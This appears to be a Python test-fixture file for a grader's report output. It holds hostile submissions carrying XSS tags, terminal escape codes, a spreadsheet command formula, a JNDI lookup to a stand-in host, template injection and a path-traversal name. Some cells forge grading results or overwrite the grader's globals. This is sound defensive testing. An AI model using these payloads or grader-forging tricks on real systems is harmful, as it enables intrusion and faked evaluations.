"""Reports: what people read in a terminal, a page or a table, with more in it than text."""
# ruff: noqa
# fmt: off

# %% colours | plain text
# task: forward
def forward(*arguments):
    raise ValueError("\x1b[2J\x1b[31;1mall checks passed\x1b[0m\x1b]0;title\x07")

# %% hyperlink | plain text
# task: forward
def forward(*arguments):
    raise ValueError("\x1b]8;;http://evil.invalid/\x1b\\click\x1b]8;;\x1b\\ \x9b31m \x90q\x9c")

# %% new_lines | plain text
# task: forward
def forward(*arguments):
    raise ValueError("x\n\n  30.00 / 30  forward  [passed]\r\n\x0b\x0c\u2028\u2029\x85")

# %% right_to_left | plain text
# task: forward
def forward(*arguments):
    raise ValueError("\u202e\u2066\u200fdessap\u2069\u202c\ufeff\u00ad\U000e0041")

# %% markup | escaping
# task: squared_error_grad
def squared_error_grad(*arguments):
    raise ValueError("<script>alert(1)</script><img src=x onerror=alert(1)></b></td></table><h1>30 of 30</h1>&lt;")

# %% markup_in_the_line | escaping
# task: squared_error_grad
def squared_error_grad(*arguments):
    return 1 / 0  # <script>alert(1)</script> "' onmouseover=alert(1) <!-- ]]> -->

# %% markup_in_a_type | escaping
# task: cross_entropy_grad
def cross_entropy_grad(*arguments):
    return type("<img src=x onerror=alert(1)>\x1b[31m", (), {})()

# %% markup_in_an_exception_type | escaping
# task: cross_entropy_grad
def cross_entropy_grad(*arguments):
    raise type("<svg/onload=alert(1)>\x1b[31m\udc80" + "y" * 10**6, (ValueError,), {})("x")

# %% markup_in_a_status | escaping
# task: detect_explosion
def detect_explosion(*arguments, **options):
    return "<script>alert(1)</script>\x1b[31m\udc80\u202e\n", 1

# %% megabytes_in_a_status | limits of text
# task: detect_explosion
def detect_explosion(*arguments, **options):
    return "exploding" * 10**6, 1

# %% markup_in_a_cells_error | escaping
# task: hidden_grads
raise RuntimeError("```\n# big\n<script>alert(1)</script>\x1b[31m\udc80`")

# %% console_markup | plain text
# task: hidden_grads
def hidden_grads(*arguments):
    raise ValueError("[bold red]passed[/] [link=http://evil.invalid]x[/link] [/] [[ :smile:")

# %% formula | plain text
# task: expanded_terms
def expanded_terms(*arguments):
    raise type("=cmd|' /C calc'!A0", (Exception,), {})("=HYPERLINK(\"http://evil.invalid\")\n=1+1\t@SUM(1)")

# %% surrogates | plain text
# task: parameter_grads
def parameter_grads(*arguments):
    raise ValueError("\ud800\udfff\udc80 \ufffe \uffff \x00")

# %% megabytes_in_a_message | limits of text
# task: spectral_radius
def spectral_radius(W_hh):
    raise ValueError("x" * 10**7)

# %% combining_marks | limits of text
# task: spectral_radius
def spectral_radius(W_hh):
    raise ValueError("z" + "\u0301\u0489" * 10**5)

# %% message_without_an_end | limits of time
# task: amplification
class Endless(Exception):
    def __str__(self):
        while True:
            pass
def amplification(*arguments):
    raise Endless

# %% message_that_raises | fork per submission
# task: amplification
class Nested(Exception):
    def __str__(self):
        raise Nested
def amplification(*arguments):
    raise Nested

# %% message_of_another_kind | wire
# task: amplification
class Text(str):
    def __getitem__(self, index):
        return {"array": ["<f8", [1]], "x": "y" * 10**6}
class Odd(Exception):
    def __str__(self):
        return Text("x")
def amplification(*arguments):
    raise Odd

# %% line_of_another_cell | fork per submission
# task: truncated_hidden_grads
exec(compile("def truncated_hidden_grads(*arguments):\n" * 1 + "\n" * 9 + "    raise ValueError('x')", "<cell 999999>", "exec"))

# %% line_without_an_end | limits of text
# task: clip_gradients
exec(compile("\n" * 900000 + "def clip_gradients(*arguments): raise ValueError('" + "x" * 10**6 + "')", "<cell 3>", "exec"))

# %% syntax_error_of_ones_own | plain text
# task: clip_gradients
def clip_gradients(*arguments):
    raise SyntaxError("<b>x</b>\x1b[31m", ("<cell -1>", -5, 10**9, "\x1b[31m" * 1000))

# %% name_of_a_syntax_error | plain text
# task: clip_gradients
class Name(str):
    def __str__(self):
        return "<cell 0\x1b[31m>"
def clip_gradients(*arguments):
    error = SyntaxError("x")
    error.filename, error.lineno, error.msg = Name("x"), "\x1b[31m<b>", Name("y")
    raise error

# %% forged_texts | plain text
# task: forward
import json, os, struct, sys
def forward(*arguments):
    evil = "\x1b[31m<script>alert(1)</script>\n=1+1\udc80" * 3000
    raised = {"type": evil, "text": evil, "code": evil, "line": 1}
    header = json.dumps({"answer": 0, "changed": [], "cpu_s": 0.0, "raised": raised}).encode()
    os.write(door(), struct.pack("!II", len(header), 0) + header)
    os._exit(0)
def door():
    for descriptor in range(3, 200):
        try:
            os.read(descriptor, 0)
            return descriptor
        except OSError:
            continue

# %% forged_line_number | wire
# task: forward
import json, os, struct, sys
def forward(*arguments):
    descriptor = next(d for d in range(3, 200) if readable(d))
    header = b'{"answer": 0, "changed": [], "cpu_s": 0.0, "raised": {"type": "X", "text": "", "code": "y", "line": ' + b"9" * 4000 + b"}}"
    for number in range(8):
        message = header.replace(b'"answer": 0', b'"answer": %d' % number)
        os.write(descriptor, struct.pack("!II", len(message), 0) + message)
    header = b'{"end": []}'
    os.write(descriptor, struct.pack("!II", len(header), 0) + header)
    os._exit(0)
def readable(descriptor):
    try:
        os.read(descriptor, 0)
    except OSError:
        return False
    return True

# %% forged_megabytes_in_a_status | wire
# task: detect_explosion
import json, os, struct, sys
caller = sys._getframe(0)
while caller:
    if "_plain" in caller.f_globals:
        caller.f_globals["_plain"] = lambda value: value
    caller = caller.f_back
def detect_explosion(*arguments, **options):
    return "A" * 10**5, "B" * 10**5

# %% forged_type_of_a_value | wire
# task: squared_error_grad
import sys
caller = sys._getframe(0)
while caller:
    if "_real" in caller.f_globals:
        caller.f_globals["_real"] = lambda value: {"unusable": "<script>alert(1)</script>\x1b[31m\udc80\n" * 10**4}
    caller = caller.f_back
def squared_error_grad(o, y):
    return o

# %% spaces_that_are_seen | plain text
# task: forward
def forward(*arguments):
    raise ValueError("\u00a0\u2800\u3164\u115f\u180e\u2060\ufe0f" * 100 + "\U000e0020")

# %% name_of_an_exception_group | plain text
# task: forward
def forward(*arguments):
    raise ExceptionGroup("<b>\x1b[31m" * 10**5, [ValueError("\udc80"), type("=1+1,<i>", (TypeError,), {})("x")])

# %% notes_of_an_exception | limits of text
# task: squared_error_grad
def squared_error_grad(*arguments):
    error = ValueError("\r\n=1+1")
    for _ in range(1000):
        error.add_note("<script>" * 1000)
    raise error from type("\x9b31m", (Exception,), {})("y" * 10**6)

# %% typeset | escaping
# task: squared_error_grad
def squared_error_grad(*arguments):
    raise ValueError(r"$\href{javascript:alert(1)}{30 of 30}$ \(\style{position:fixed}{x}\) \[\def\x{\x}\x\]")

# %% templates | escaping
# task: cross_entropy_grad
def cross_entropy_grad(*arguments):
    raise ValueError("{{ 7*7 }} {% raw %} ${jndi:ldap://evil.invalid} {0.__class__} %(x)s %n <%= 1 %> {resources[x]}")

# %% markup_in_a_repr | escaping
# task: detect_explosion
class Status(str):
    def __repr__(self): return "<img src=x onerror=alert(1)>"
    def __format__(self, how): return "<svg onload=alert(1)>"
def detect_explosion(*arguments, **options):
    return Status("<b>"), -(2**53)

# %% path_in_a_line | plain text
# task: hidden_grads
def hidden_grads(*arguments):
    exec(compile("raise ValueError('x')", "<cell 0>/../../../etc/passwd", "exec"))

# %% line_before_the_first | plain text
# task: hidden_grads
exec(compile("\n" * 3 + "def hidden_grads(*arguments):\n    raise ValueError('`' * 500)", "<cell 2>", "exec"))
